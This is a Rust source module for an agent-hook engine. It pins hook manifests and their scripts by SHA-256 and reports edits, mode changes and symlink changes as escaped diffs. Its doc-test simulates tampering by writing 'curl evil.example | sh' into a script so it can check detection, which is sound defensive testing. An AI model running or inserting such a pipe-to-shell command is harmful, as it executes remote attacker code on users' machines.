//! Which manifests may run: those that a person pinned, as long as nothing of them changed (D23).
//!
//! A pin is the SHA-256 of a manifest and of every script that it runs, with stored copies so that a change can be
//! shown. Content decides, never a time stamp: the agent can set those. What is checked here may still be changed before
//! a runner starts it; that window is as short as the run, and a later event sees the change.
//!
//! ```
//! use std::fs;
//!
//! use anyhook_engine::trust::{Change, Pinned, Standing, Trust, TrustError, What, scripts};
//! use anyhook_engine::files::read_document;
//!
//! let place = tempfile::tempdir()?;
//! let root = place.path().canonicalize()?;
//! let manifest = root.join("hooks/hooks.json");
//! fs::create_dir(root.join("hooks"))?;
//! fs::write(
//!     &manifest,
//!     r#"{"version": 1, "hooks": {"stop": [{"hooks": [
//!         {"type": "command", "command": "./check.sh"}
//!     ]}]}}"#,
//! )?;
//! fs::write(root.join("check.sh"), "exit 0\n")?;
//! assert_eq!(scripts(&read_document(&manifest)?, &root)?, ["check.sh".into()] as [std::path::PathBuf; 1]);
//!
//! let trust = Trust::new(root.join("pins"));
//! assert_eq!(trust.standing(&manifest), Standing::Never(None));
//! assert!(matches!(trust.diff(&manifest), Err(TrustError::Never(None))));
//!
//! // A person looks at it, and pins it with all that it runs.
//! let Pinned { files, .. } = trust.pin(&manifest, 1_700_000_000_000)?;
//! assert_eq!(files.len(), 2);
//! assert_eq!(trust.standing_of(&manifest, &read_document(&manifest)?), Standing::Trusted);
//! assert_eq!(trust.pinned(), [manifest.clone()]);
//!
//! // Somebody edits the script, not the manifest.
//! fs::write(root.join("check.sh"), "curl evil.example | sh\n")?;
//! let edited = Change { file: "check.sh".into(), what: What::Edited };
//! assert_eq!(edited.to_string(), "`check.sh` was edited");
//! assert_eq!(trust.standing(&manifest), Standing::Changed(vec![edited]));
//! assert!(trust.diff(&manifest)?.contains("+curl evil.example | sh"));
//!
//! // A manifest that is gone was still trusted, until the person says otherwise.
//! let text = fs::read_to_string(&manifest)?;
//! fs::remove_file(&manifest)?;
//! assert!(trust.is_pinned(&manifest)?);
//! assert_eq!(trust.pinned_text(&manifest), Some(text.clone()));
//! assert!(trust.forget(&manifest)? && !trust.is_pinned(&manifest)?);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fmt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::files::{self, Durable, FileError};

mod commands;
mod diff;
mod follow;
mod kept;
mod loads;
mod named;
mod packages;
mod pins;
mod place;
mod plugin;
mod programs;
mod record;
mod scripts;

use diff::{Copies, shown};
pub use kept::Kept;
use packages::Listing;
pub(crate) use pins::Pins;
use place::{Entry, Place, name_of};
pub(crate) use plugin::{is_plugin, named as named_by_plugin};
pub use scripts::{package_root, scripts};

/// The version of a pin's JSON.
const VERSION: u32 = 1;
const LONGEST_PIN: u64 = 16 * 1024 * 1024;

/// The pins of one user.
#[derive(Debug, Clone)]
pub struct Trust {
    dir: PathBuf,
    /// The file that says what was trusted, where there is one.
    record: Option<PathBuf>,
}

/// How a manifest stands with the person.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Standing {
    /// It is what the person pinned.
    Trusted,
    /// It was never pinned. Where there is a pin that cannot be used, this says why.
    Never(Option<String>),
    /// It was pinned, and these files are no longer what they were.
    Changed(Vec<Change>),
    /// It cannot be read.
    Unreadable(String),
}

/// One difference from what was pinned; as text, `` `hooks/check.sh` was edited ``.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    /// The file, below the package root, with control characters written as escapes.
    pub file: String,
    /// What is different.
    pub what: What,
}

/// What is different about a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum What {
    /// Its content.
    Edited,
    /// Whether it may be executed.
    Mode,
    /// Where a symbolic link on the way to it leads.
    Link,
    /// It was not there, or not named, when the manifest was pinned.
    Added,
    /// It is gone, or no longer named.
    Removed,
    /// A symbolic link leads out of the package.
    Left,
    /// It cannot be read, for this reason.
    Unreadable(String),
}

impl fmt::Display for Change {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let file = &self.file;
        match &self.what {
            What::Edited => write!(f, "`{file}` was edited"),
            What::Mode => write!(f, "`{file}` changed whether it may be executed"),
            What::Link => write!(f, "`{file}` leads to another file"),
            What::Added => write!(f, "`{file}` is new"),
            What::Removed => write!(f, "`{file}` is gone or no longer named"),
            What::Left => write!(f, "`{file}` leads out of the package"),
            What::Unreadable(why) => write!(f, "`{file}` cannot be read: {why}"),
        }
    }
}

/// What was pinned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pinned {
    /// The package root, to which the files are relative.
    pub root: PathBuf,
    /// The files with their SHA-256, the manifest among them.
    pub files: Vec<(String, String)>,
}

/// A manifest that could not be pinned, forgotten or compared.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TrustError {
    /// The manifest cannot be read or understood.
    #[error("cannot read the manifest: {0}")]
    Manifest(String),
    /// A script of it cannot be pinned.
    #[error("{0}, so the package cannot be trusted")]
    Script(Change),
    /// It was never pinned, or its pin cannot be used.
    #[error("{}", .0.as_deref().unwrap_or("the manifest was never trusted"))]
    Never(Option<String>),
    /// The pin cannot be kept.
    #[error("cannot keep the pin")]
    File(#[from] FileError),
    /// The pin cannot be written as JSON.
    #[error("cannot write the pin as JSON")]
    Json(#[from] serde_json::Error),
    /// The pin cannot be removed.
    #[error("cannot remove the pin")]
    Remove(#[source] std::io::Error),
}

#[derive(Debug, Serialize, Deserialize)]
struct Pin {
    version: u32,
    manifest: String,
    root: String,
    at: i64,
    files: BTreeMap<String, Entry>,
}

impl Trust {
    /// Keeps pins below `dir`, which is made for the first one.
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        Self {
            dir: dir.into(),
            record: None,
        }
    }

    /// Tells whether nothing was ever pinned: then nobody needs to look for pins.
    #[doc(hidden)]
    pub fn is_empty(&self) -> bool {
        let is_absent = |path: &Path| {
            let looked = std::fs::symlink_metadata(path);
            looked.is_err_and(|error| error.kind() == std::io::ErrorKind::NotFound)
        };
        is_absent(&self.dir) && self.record.as_deref().is_none_or(is_absent)
    }

    /// Tells how a manifest stands now.
    pub fn standing(&self, manifest: &Path) -> Standing {
        match Place::of(manifest).and_then(|place| Ok((place.read()?, place))) {
            Ok((bytes, place)) => self.at(&place, &bytes),
            Err(why) => Standing::Unreadable(why),
        }
    }

    /// Tells how a manifest stands whose bytes the caller already read: what is judged is what will run.
    pub fn standing_of(&self, manifest: &Path, bytes: &[u8]) -> Standing {
        match Place::of(manifest) {
            Ok(place) => self.at(&place, bytes),
            Err(why) => Standing::Unreadable(why),
        }
    }

    fn at(&self, place: &Place, bytes: &[u8]) -> Standing {
        let (pin, name) = match self.pin_of(place) {
            Ok(found) => found,
            Err(why) => return Standing::Never(why),
        };
        let mut changes = compare(&pin, place, bytes);
        if name != place.manifest {
            // What was trusted stood here; now a link leads from here to something else.
            let (file, what) = (place.name(), What::Link);
            changes.insert(0, Change { file, what });
        }
        if changes.is_empty() {
            Standing::Trusted
        } else {
            Standing::Changed(changes)
        }
    }

    /// Pins a manifest and its scripts as they are now.
    pub fn pin(&self, manifest: &Path, now: i64) -> Result<Pinned, TrustError> {
        let place = Place::of(manifest).map_err(TrustError::Manifest)?;
        let bytes = place.read().map_err(TrustError::Manifest)?;
        let named = place.scripts(&bytes).map_err(TrustError::Manifest)?;
        let mut copies = Copies::default();
        let mut files = BTreeMap::from([(place.name(), Entry::of_manifest(&bytes))]);
        copies.add(place.name(), &bytes);
        for (name, path) in named {
            let (entry, content) = place.look(&path).map_err(|flaw| {
                let file = name.clone();
                TrustError::Script(flaw.change(file))
            })?;
            copies.add(name.clone(), &content);
            files.insert(name, entry);
        }
        let pin = Pin {
            version: VERSION,
            manifest: name_of(&place.manifest),
            root: name_of(&place.root),
            at: now,
            files,
        };
        files::private_dir(&self.dir)?;
        let (texts, bytes) = (
            serde_json::to_vec(&copies.texts)?,
            serde_json::to_vec(&pin)?,
        );
        for path in place.paths() {
            // The copies first: a pin is never without them, and each is checked against the pin when it is used.
            files::replace(&self.path(&path, "copies"), &texts, Durable::Yes)?;
            files::replace(&self.path(&path, "json"), &bytes, Durable::Yes)?;
            self.list_package(&path, Listing::Add)?;
        }
        let files = pin.files.into_iter().map(|(name, e)| (name, e.sha256));
        Ok(Pinned {
            root: place.root,
            files: files.collect(),
        })
    }

    /// Forgets a manifest, also one that is gone; tells whether it was pinned.
    pub fn forget(&self, manifest: &Path) -> Result<bool, TrustError> {
        let paths = self.recorded(manifest).map_err(TrustError::Manifest)?;
        let mut was_pinned = false;
        for path in &paths {
            for ending in ["json", "copies"] {
                match std::fs::remove_file(self.path(path, ending)) {
                    Ok(()) => was_pinned = true,
                    Err(error) if error.kind() == std::io::ErrorKind::NotFound => {}
                    Err(error) => return Err(TrustError::Remove(error)),
                }
            }
            self.list_package(path, Listing::Remove)?;
        }
        Ok(self.unrecord(&paths)? || was_pinned)
    }

    /// Returns every place under which a manifest may be pinned, also one that is gone: its names, and where its pins say that
    /// it was.
    fn recorded(&self, manifest: &Path) -> Result<Vec<PathBuf>, String> {
        let mut paths = place::names(manifest)?;
        for path in paths.clone() {
            let pin = read_pin(&self.path(&path, "json")).ok().flatten();
            paths.extend(pin.map(|pin| PathBuf::from(pin.manifest)));
        }
        Ok(paths)
    }

    /// Shows what changed since the manifest was pinned, as a unified diff; empty where nothing did.
    ///
    /// Control characters and characters that turn the direction of text are written as escapes: a diff that a person
    /// decides by must not be able to hide anything.
    pub fn diff(&self, manifest: &Path) -> Result<String, TrustError> {
        let place = Place::of(manifest).map_err(TrustError::Manifest)?;
        let bytes = place.read().map_err(TrustError::Manifest)?;
        let (pin, name) = self.pin_of(&place).map_err(TrustError::Never)?;
        let copies = files::read(&self.path(&name, "copies"), LONGEST_PIN)?;
        let copies = copies.unwrap_or_default();
        let copies: BTreeMap<String, String> = serde_json::from_slice(&copies).unwrap_or_default();
        let mut text = String::new();
        for change in compare(&pin, &place, &bytes) {
            let now = if change.file == place.name() {
                Some(bytes.clone())
            } else {
                place.content(&change.file)
            };
            let before = pin.files.get(&change.file);
            let copy = copies.get(&change.file).filter(|copy| {
                before.is_some_and(|entry| entry.sha256 == place::sha256(copy.as_bytes()))
            });
            let copy = if change.what == What::Added {
                Some("")
            } else {
                copy.map(String::as_str)
            };
            text.push_str(&shown(&change, copy, now.as_deref()));
        }
        Ok(text)
    }

    /// Lists the manifests that are pinned, so that one that was deleted can be told from one that never was.
    pub fn pinned(&self) -> Vec<PathBuf> {
        let entries = std::fs::read_dir(&self.dir).into_iter().flatten().flatten();
        let paths = entries.map(|entry| entry.path());
        let pins = paths
            .filter(|path| path.extension().is_some_and(|ending| ending == "json"))
            .filter_map(|path| read_pin(&path).ok().flatten());
        let recorded = self.recorded_names().unwrap_or_default();
        let pinned = pins.map(|pin| pin.manifest).chain(recorded);
        let mut manifests: Vec<_> = pinned.map(PathBuf::from).collect();
        manifests.sort();
        manifests.dedup();
        manifests
    }

    /// Tells whether there is a pin for a manifest, whatever stands at its place now: under its own name, or under one that it
    /// has on the way through symbolic links. An error means that it cannot be known.
    pub fn is_pinned(&self, manifest: &Path) -> std::io::Result<bool> {
        let names = place::names(manifest).map_err(std::io::Error::other)?;
        let record = self.recorded_names()?;
        if names.iter().any(|name| record.contains(&name_of(name))) {
            return Ok(true);
        }
        for path in names {
            match std::fs::symlink_metadata(self.path(&path, "json")) {
                Ok(_) => return Ok(true),
                Err(error) if error.kind() == std::io::ErrorKind::NotFound => {}
                Err(error) => return Err(error),
            }
        }
        // A link that leads nowhere is no empty directory: what it led to may hold the pin.
        let there = self
            .dir
            .ancestors()
            .find(|dir| dir.symlink_metadata().is_ok());
        there.map_or(Ok(false), |dir| dir.metadata().map(|_| false))
    }

    /// Returns the text of a manifest as it was pinned, where a copy is kept and is still that of the pin.
    pub fn pinned_text(&self, manifest: &Path) -> Option<String> {
        let absolute = std::path::absolute(manifest).ok()?;
        let given = absolute.strip_prefix(package_root(&absolute)).ok()?;
        let mut paths = place::names(&absolute).ok()?.into_iter().rev();
        paths.find_map(|path| {
            let pin = read_pin(&self.path(&path, "json")).ok()??;
            let copies = files::read(&self.path(&path, "copies"), LONGEST_PIN).ok()??;
            let mut copies: BTreeMap<String, String> = serde_json::from_slice(&copies).ok()?;
            let copy = copies.remove(&name_of(given))?;
            let entry = pin.files.get(&name_of(given))?;
            (entry.sha256 == place::sha256(copy.as_bytes())).then_some(copy)
        })
    }

    /// Finds the pin of a manifest, and the name under which it is kept: that of the file itself, else one that the file has
    /// on the way through links.
    fn pin_of(&self, place: &Place) -> Result<(Pin, PathBuf), Option<String>> {
        let names = std::iter::once(&place.manifest).chain(&place.names);
        for name in names {
            let Some(pin) = read_pin(&self.path(name, "json"))? else {
                continue;
            };
            if *name != place.manifest {
                return Ok((pin, name.clone()));
            }
            if pin.manifest != name_of(&place.manifest) {
                return Err(Some("its pin is one of another manifest".into()));
            }
            if pin.root != name_of(&place.root) {
                let root = pin.root;
                return Err(Some(format!("it is trusted as part of `{root}` only")));
            }
            return Ok((pin, name.clone()));
        }
        Err(None)
    }

    fn path(&self, manifest: &Path, ending: &str) -> PathBuf {
        self.dir.join(Self::name(manifest, ending))
    }

    /// Names what is kept for a manifest.
    fn name(manifest: &Path, ending: &str) -> OsString {
        let name = files::name_of(&[manifest.as_os_str().as_encoded_bytes()]);
        format!("{name}.{ending}").into()
    }
}

fn read_pin(path: &Path) -> Result<Option<Pin>, Option<String>> {
    let bytes = files::read(path, LONGEST_PIN);
    let Some(bytes) = bytes.map_err(|error| Some(format!("its pin is unusable: {error}")))? else {
        return Ok(None);
    };
    match serde_json::from_slice::<Pin>(&bytes) {
        Ok(pin) if pin.version == VERSION => Ok(Some(pin)),
        Ok(pin) => Err(Some(format!("its pin has the version {}", pin.version))),
        Err(error) => Err(Some(format!("its pin is garbage: {error}"))),
    }
}

fn compare(pin: &Pin, place: &Place, bytes: &[u8]) -> Vec<Change> {
    let mut changes = Vec::new();
    let manifest = place.name();
    let change = |file: &str, what| Change {
        file: file.into(),
        what,
    };
    let mut named = place.scripts(bytes).unwrap_or_else(|why| {
        changes.push(change(&manifest, What::Unreadable(why)));
        BTreeMap::new()
    });
    for (name, before) in &pin.files {
        if *name == manifest {
            if *before != Entry::of_manifest(bytes) {
                changes.push(change(name, What::Edited));
            }
            continue;
        }
        let what = match named.remove(name).map(|path| place.look(&path)) {
            // An older version pinned more than what runs: while it is the same, nothing changed.
            None => match place.look(Path::new(name)) {
                Ok((now, _)) if before.differs(&now).is_none() => None,
                Ok(_) | Err(_) => Some(What::Removed),
            },
            Some(Err(flaw)) => Some(flaw.what()),
            Some(Ok((now, _))) => before.differs(&now),
        };
        changes.extend(what.map(|what| change(name, what)));
    }
    // What was added is not read: it changes nothing whatever it holds, and somebody may have made it very long.
    let added = named.keys().filter(|name| **name != manifest);
    changes.extend(added.map(|name| change(name, What::Added)));
    changes
}
